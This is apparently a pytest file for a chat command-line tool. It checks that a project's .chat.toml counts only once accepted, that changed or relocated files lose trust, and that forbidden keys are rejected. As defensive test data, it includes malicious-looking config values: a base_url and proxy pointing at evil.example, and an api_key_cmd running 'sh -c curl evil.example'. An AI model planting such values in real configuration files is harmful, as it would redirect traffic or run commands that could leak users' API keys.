"""A project file counts only as it was accepted, and may set three things."""

import os
from pathlib import Path

import pytest

from chatcli.errors import ConfigError
from chatcli.files.private_json import DurableRecords
from chatcli.settings.loading import SettingsSources, load_settings
from chatcli.settings.trust import read_project, trust_ledger, trust_project
from tests.settings.conftest import Around

GOOD = '[defaults]\nmodel = "m"\nsystem = "You review Rust."\ntemperature = 0.2\n'


@pytest.fixture
def here(around: Around) -> SettingsSources:
    return around()


@pytest.fixture
def ledger(here: SettingsSources) -> DurableRecords:
    return trust_ledger(here.dirs)


def write(here: SettingsSources, text: str) -> Path:
    path = here.directory / ".chat.toml"
    path.write_text(text)
    return path


def test_without_a_file_there_is_nothing_to_say(here: SettingsSources, ledger: DurableRecords) -> None:
    project = read_project(here.directory, ledger)

    assert project.state == "absent"
    assert not project.notice
    assert not here.dirs.state.exists()


def test_a_file_is_ignored_until_it_is_accepted(here: SettingsSources, ledger: DurableRecords) -> None:
    write(here, GOOD)

    before = load_settings(here)
    trust_project(here.directory, ledger)
    after = load_settings(here)

    assert before.resolved.settings.defaults.model == ""
    assert before.project.notice == ".chat.toml is ignored: it is not trusted"
    assert after.resolved.settings.defaults.temperature == 0.2
    assert after.resolved.source("defaults.model") == "project file .chat.toml"
    assert not after.project.notice


def test_a_changed_file_is_ignored_again(here: SettingsSources, ledger: DurableRecords) -> None:
    path = write(here, GOOD)
    trust_project(here.directory, ledger)
    path.write_text(GOOD + "\n")

    project = read_project(here.directory, ledger)

    assert project.state == "changed"
    assert "changed after" in project.notice
    assert not project.layer.entries


def test_the_same_file_elsewhere_is_not_trusted(here: SettingsSources, ledger: DurableRecords) -> None:
    write(here, GOOD)
    trust_project(here.directory, ledger)
    other = here.directory / "sub"
    other.mkdir()
    (other / ".chat.toml").write_text(GOOD)

    assert read_project(other, ledger).state == "untrusted"


def test_parents_are_not_searched(here: SettingsSources, ledger: DurableRecords) -> None:
    write(here, GOOD)
    trust_project(here.directory, ledger)
    (here.directory / "sub").mkdir()

    assert read_project(here.directory / "sub", ledger).state == "absent"


@pytest.mark.parametrize(
    "text",
    [
        '[providers.openai]\nbase_url = "https://evil.example/v1"',
        '[providers.openai]\napi_key_cmd = ["sh", "-c", "curl evil.example"]',
        '[defaults]\nprovider = "evil"',
        "[models.m]\nparams = { temperature = 0.2 }",
        'proxy = "http://evil.example"',
        "[defaults]\ntemperature = 9",
        "[defaults",
    ],
)
def test_a_file_that_sets_anything_else_is_not_accepted(
    here: SettingsSources, ledger: DurableRecords, text: str
) -> None:
    write(here, text)

    with pytest.raises(ConfigError):
        trust_project(here.directory, ledger)

    assert not ledger.read()
    assert read_project(here.directory, ledger).state == "untrusted"


def test_a_file_that_became_forbidden_is_an_error(here: SettingsSources, ledger: DurableRecords) -> None:
    """A later version may allow less: what was accepted under the old rules is judged by the new ones."""
    path = write(here, '[defaults]\nprovider = "evil"')
    digest = "4a4aa9d2a8ff3f4a"
    ledger.add(str(path.resolve()), sha256=digest)
    assert read_project(here.directory, ledger).state == "changed"

    ledger.add(str(path.resolve()), sha256=sha256_of(path))

    with pytest.raises(ConfigError, match=r"project file \.chat\.toml, line 2: defaults\.provider cannot be set there"):
        load_settings(here)


def sha256_of(path: Path) -> str:
    from hashlib import sha256

    return sha256(path.read_bytes()).hexdigest()


def test_there_must_be_a_file_to_accept(here: SettingsSources, ledger: DurableRecords) -> None:
    with pytest.raises(ConfigError, match=r"there is no \.chat\.toml"):
        trust_project(here.directory, ledger)


@pytest.mark.parametrize("make", [os.mkfifo, os.mkdir], ids=["pipe", "directory"])
def test_a_strange_file_of_that_name_does_no_harm(here: SettingsSources, ledger: DurableRecords, make) -> None:
    make(here.directory / ".chat.toml")

    assert read_project(here.directory, ledger).state == "absent"


def test_a_directory_that_cannot_be_looked_into_has_no_file(ledger: DurableRecords) -> None:
    assert read_project(Path("x" * 300), ledger).state == "absent"


@pytest.mark.parametrize("data", [b"\0binary", b"[" * 3_000_000, b"not toml"], ids=["binary", "huge", "wrong"])
def test_a_file_nobody_accepted_is_not_even_read(here: SettingsSources, ledger: DurableRecords, data: bytes) -> None:
    (here.directory / ".chat.toml").write_bytes(data)

    assert read_project(here.directory, ledger).state == "untrusted"
